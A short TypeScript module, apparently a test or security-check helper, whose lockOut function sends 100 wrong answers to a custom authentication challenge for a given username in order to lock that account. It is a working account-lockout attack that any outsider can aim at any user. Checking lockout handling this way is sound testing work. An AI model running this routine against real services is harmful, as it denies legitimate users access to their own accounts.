import { askPool } from './portal-api.ts';

const ClientId = 'deviceportalweb';

/** Locks an account by sending enough incorrect codes as a stranger. */
export async function lockOut(url: string, name: string): Promise<void> {
  for (let wrong = 0; wrong < 100; wrong += 1) {
    const { Session } = await askPool<{ Session: string }>(url, 'InitiateAuth', {
      ...{ AuthFlow: 'CUSTOM_AUTH', ClientId, AuthParameters: { USERNAME: name } },
    });
    await askPool(url, 'RespondToAuthChallenge', {
      ...{ ChallengeName: 'CUSTOM_CHALLENGE', ClientId, Session },
      ChallengeResponses: { USERNAME: name, ANSWER: 'wrong' },
    });
  }
}
